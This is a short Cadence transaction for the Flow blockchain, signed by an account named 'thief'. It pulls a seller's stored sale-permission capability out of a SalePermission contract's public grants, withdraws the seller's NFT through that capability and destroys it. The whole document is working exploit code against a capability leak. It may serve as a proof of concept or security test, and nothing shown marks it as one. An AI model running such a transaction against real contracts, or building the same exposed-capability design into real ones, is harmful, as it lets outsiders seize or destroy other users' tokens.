import "NonFungibleToken"
import "SalePermission"

/// Reaches for the right to the collection that a grant keeps.
transaction(seller: Address, id: UInt64) {
    prepare(thief: &Account) {
        let grants = SalePermission.borrowGrants(seller)!
        let right = grants.grants[id]!.capability
        destroy right.borrow()!.withdraw(withdrawID: id)
    }
}
